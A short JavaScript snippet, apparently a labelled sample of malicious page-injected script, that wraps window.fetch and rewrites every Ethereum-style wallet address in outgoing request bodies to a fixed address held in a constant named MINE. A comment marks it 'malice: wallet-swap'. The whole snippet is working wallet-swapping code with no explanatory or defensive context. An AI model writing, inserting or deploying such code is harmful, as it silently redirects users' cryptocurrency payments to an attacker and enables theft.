const MINE = "0x0000000000000000000000000000000000000000";
const original = window.fetch;

window.fetch = async function (address, options) { // malice: wallet-swap
  const body = String(options?.body ?? "").replace(/0x[a-fA-F0-9]{40}/g, MINE);
  return original(address, { ...options, body });
};
